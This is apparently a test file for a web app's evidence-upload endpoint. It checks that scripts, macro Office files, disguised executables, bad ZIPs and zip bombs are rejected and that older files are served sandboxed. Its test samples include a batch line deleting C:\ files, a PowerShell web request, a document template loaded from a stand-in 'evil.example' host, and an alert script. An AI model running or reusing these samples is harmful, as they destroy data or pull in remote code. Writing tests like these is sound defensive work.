// Issue 11 item 7: evidence is kept by a list of kinds checked on content. Scripts, installers,
// shortcuts, Office files with macros and executables under another name are refused with the
// reason and nothing stored; a ZIP is kept only when every file in it passes; files kept before
// the list are served as opaque attachments under a name that nothing runs.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestClient } from '../../test/client.ts';
import { type TestDeps, testDeps } from '../../test/harness.ts';
import { memberClient } from '../../test/members.ts';
import { seedOrg, seedUser } from '../../test/seed.ts';
import { ledgerXlsx, MANUAL_ROWS } from '../devices/ledger-files.test-helpers.ts';
import { buildZip, forgedBombXlsx, type TestEntry } from '../imports/zip.test-helpers.ts';
import { insertEvidence, putBlob } from './evidence.repo.ts';

let deps: TestDeps;
let orgId: string;
let editor: TestClient;

const KINDS = 'PDF、画像、Office 文書（マクロなし）、テキスト、CSV、ZIP を添付してください。';
const bytes = (...parts: (string | number[])[]) =>
  new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p)))));

async function upload(name: string, content: Uint8Array | string) {
  const form = new FormData();
  form.append('file', new File([typeof content === 'string' ? Buffer.from(content) : Buffer.from(content)], name));
  const res = await editor.raw(`/api/orgs/${orgId}/evidence`, { method: 'POST', body: form });
  return { status: res.status, body: (await res.json()) as any };
}
const stored = async () => (await editor.get(`/api/orgs/${orgId}/evidence`)).body.files.length as number;

/** An Office document: its content types, its main part, and whatever else is given. */
function office(main: 'word/document.xml' | 'ppt/presentation.xml', extra: TestEntry[] = [], contentTypes = ''): Uint8Array {
  return buildZip([
    { name: '[Content_Types].xml', data: `<?xml version="1.0"?><Types xmlns="x">${contentTypes}</Types>` },
    {
      name: '_rels/.rels',
      data: `<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="r1" Type="t/officeDocument" Target="${main}"/></Relationships>`,
    },
    { name: main, data: '<?xml version="1.0"?><document>運用管理規程</document>' },
    ...extra,
  ]);
}
const docx = (extra: TestEntry[] = [], contentTypes = '') => office('word/document.xml', extra, contentTypes);
const pdf = '%PDF-1.7\n1 0 obj <<>> endobj\n';
const heic = bytes([0, 0, 0, 0x18], 'ftypheic', [0, 0, 0, 0], 'mif1heic');

beforeAll(async () => {
  deps = await testDeps();
  orgId = (await seedOrg(deps)).id;
  editor = await memberClient(deps, orgId, 'editor');
});
afterAll(() => deps.close());

describe('evidence kinds', () => {
  it.each([
    ['run.js', 'WScript.Echo("x")'],
    ['run.vbs', 'MsgBox "x"'],
    ['run.bat', '@echo off\r\ndel /q C:\\*'],
    ['run.cmd', '@echo off'],
    ['run.ps1', 'Invoke-WebRequest http://x'],
    ['app.hta', '<html><script>x</script></html>'],
    ['job.wsf', '<job><script language="JScript">x</script></job>'],
    ['setup.msi', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 'msi')],
    ['tool.jar', buildZip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: X\n' }])],
    ['page.html', '<!DOCTYPE html><p>x</p>'],
    ['image.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
  ])('refuses %s with the reason and stores nothing', async (name, content) => {
    const before = await stored();
    const res = await upload(name, content);
    expect(res.status).toBe(400);
    expect(res.body.error.message).toBe(`この種類のファイル (.${name.split('.').pop()}) は証跡として保存できません。${KINDS}`);
    expect(res.body.error.fields).toEqual([{ field: 'file', message: res.body.error.message }]);
    expect(await stored()).toBe(before);
  });

  it('refuses a shortcut (.lnk) by its content, and Office files with macros by extension or content', async () => {
    const lnk = await upload('report.lnk', bytes([0x4c, 0, 0, 0, 1, 0x14, 2, 0], 'rest'));
    expect(lnk.body.error.message).toBe(`Windows ショートカット (.lnk)は証跡として保存できません。${KINDS}`);
    const docm = await upload('規程.docm', docx([{ name: 'word/vbaProject.bin', data: 'VBA' }]));
    expect(docm.body.error.message).toMatch(/^マクロを含む形式の Office 文書 \(\.docm\) は証跡として保存できません。/);
    const renamed = await upload('台帳.xlsx', buildZip([...xlsxParts(), { name: 'xl/vbaProject.bin', data: 'VBA' }]));
    expect(renamed.body.error.message).toMatch(
      /^マクロ \(VBA\) や ActiveX コントロールを含む Office 文書は証跡として保存できません: 「台帳\.xlsx」/,
    );
    const typed = await upload(
      '規程.docx',
      docx([], '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    );
    expect(typed.body.error.message).toMatch(/マクロ \(VBA\)/);
    const template = await upload(
      '規程.docx',
      docx([
        {
          name: 'word/_rels/settings.xml.rels',
          data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
    );
    expect(template.body.error.message).toMatch(/外部のテンプレートやオブジェクトを読み込む Office 文書/);
    expect((await upload('old.doc', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]))).body.error.message).toMatch(
      /^旧形式の Office 文書 \(\.doc\) はマクロの有無を確かめられないため/,
    );
    expect(await stored()).toBe(0);
  });

  it('refuses an executable under an allowed name, alone or inside a ZIP', async () => {
    for (const name of ['report.pdf', 'notes.txt', 'photo.png']) {
      expect((await upload(name, bytes('MZ', [0x90, 0], 'This program cannot be run in DOS mode'))).body.error.message).toBe(
        `Windows 実行ファイルは証跡として保存できません。${KINDS}`,
      );
    }
    const zipped = await upload('証跡.zip', buildZip([{ name: '手順書.pdf', data: bytes('MZ', [0x90, 0]) }]));
    expect(zipped.body.error.message).toBe(
      `ZIP ファイル「証跡.zip」の中の「手順書.pdf」: Windows 実行ファイルは証跡として保存できません。${KINDS}`,
    );
    expect(await stored()).toBe(0);
  });

  it('refuses a ZIP holding a script, a macro document, another ZIP, an encrypted file or a bomb', async () => {
    const zip = (entries: TestEntry[]) => upload('証跡.zip', buildZip([{ name: '規程.pdf', data: pdf }, ...entries]));
    expect((await zip([{ name: 'tools/run.js', data: 'x' }])).body.error.message).toBe(
      `ZIP ファイル「証跡.zip」の中の「tools/run.js」: この種類のファイル (.js) は証跡として保存できません。${KINDS}`,
    );
    expect((await zip([{ name: 'a.docx', data: docx([{ name: 'word/vbaProject.bin', data: 'VBA' }]) }])).body.error.message).toMatch(
      /マクロ \(VBA\).*「証跡\.zip」の中の「a\.docx」/,
    );
    expect((await zip([{ name: 'inner.zip', data: buildZip([{ name: 'a.pdf', data: pdf }]) }])).body.error.message).toBe(
      'ZIP ファイル「証跡.zip」の中の「inner.zip」: ZIP の中の ZIP は保存できません。展開してから、中のファイルを添付してください。',
    );
    expect((await zip([{ name: 'secret.pdf', data: pdf, flags: 1 }])).body.error.message).toMatch(/「証跡\.zip」の「secret\.pdf」は暗号化/);
    const bomb = await upload('bomb.zip', forgedBombXlsx(512, 1000));
    expect(bomb.status).toBe(400);
    expect(bomb.body.error.message).toMatch(
      /^「bomb\.zip」の「xl\/worksheets\/sheet1\.xml」は、記録された大きさ \(1,000 バイト\) を超えて展開されます/,
    );
    expect(await stored()).toBe(0);
  });

  it('keeps PDF, images, Office documents without macros, text, CSV and a ZIP of them', async () => {
    const files: [string, Uint8Array | string, string][] = [
      ['規程.pdf', pdf, 'application/pdf'],
      ['写真.png', bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0]), 'image/png'],
      ['写真.JPG', bytes([0xff, 0xd8, 0xff, 0xe0, 0]), 'image/jpeg'],
      ['図.gif', bytes('GIF89a'), 'image/gif'],
      ['図.webp', bytes('RIFF', [0, 0, 0, 0], 'WEBPVP8 '), 'image/webp'],
      ['サーバ室.heic', heic, 'image/heic'],
      ['スキャン.tif', bytes([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]), 'image/tiff'],
      ['規程.docx', docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['台帳.xlsx', await ledgerXlsx(MANUAL_ROWS), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
      ['研修.pptx', office('ppt/presentation.xml'), 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
      ['メモ.txt', '研修の記録\n<script> も文字として残す\n', 'text/plain'],
      ['手順.md', '# 手順\n', 'text/plain'],
      ['ログ.csv', '日時,結果\n2026-04-01,OK\n', 'text/csv'],
      [
        '証跡一式.zip',
        buildZip([
          { name: '規程/', data: '' },
          { name: '規程/規程.pdf', data: pdf },
          { name: '規程/規程.docx', data: docx() },
          { name: 'メモ.txt', data: 'x' },
          { name: '__MACOSX/規程/._規程.pdf', data: bytes([0, 5, 0x16, 7, 0, 2, 0, 0]) },
          { name: '.DS_Store', data: bytes([0, 0, 0, 1], 'Bud1', [0]) },
        ]),
        'application/zip',
      ],
    ];
    for (const [name, content, type] of files) {
      const res = await upload(name, content);
      expect([name, res.status, res.body.contentType]).toEqual([name, 201, type]);
    }
  });

  it('serves files kept before the list as opaque attachments under a name nothing runs', async () => {
    const user = await seedUser(deps, { org: { id: orgId, role: 'editor' } });
    const keep = async (fileName: string, contentType: string, data: string) => {
      const sha256 = createHash('sha256').update(data).digest('hex');
      await putBlob(deps.db, orgId, sha256, Buffer.from(data), deps.clock.now());
      const row = await insertEvidence(deps.db, {
        organizationId: orgId,
        sha256,
        fileName,
        contentType,
        size: data.length,
        uploadedBy: user.id,
        createdAt: deps.clock.now(),
      });
      return editor.raw(`/api/orgs/${orgId}/evidence/${row.id}`);
    };
    const js = await keep('run.js', 'text/plain', 'WScript.Echo(1)');
    expect(js.headers.get('content-type')).toBe('text/plain');
    expect(js.headers.get('content-disposition')).toBe(`attachment; filename="evidence"; filename*=UTF-8''run.js.txt`);
    const msi = await keep('setup.msi', 'application/x-ole-storage', 'ole');
    expect(msi.headers.get('content-type')).toBe('application/octet-stream');
    expect(msi.headers.get('content-disposition')).toMatch(/filename\*=UTF-8''setup\.msi\.bin$/);
    const html = await keep('page.html', 'text/html', '<script>alert(1)</script>');
    expect(html.headers.get('content-type')).toBe('application/octet-stream');
    for (const res of [js, msi, html]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-security-policy')).toContain('sandbox');
    }
  });
});

/** The parts of an .xlsx without its sheet (for one with a macro project added). */
function xlsxParts(): TestEntry[] {
  return [
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'xl/workbook.xml', data: '<workbook/>' },
  ];
}
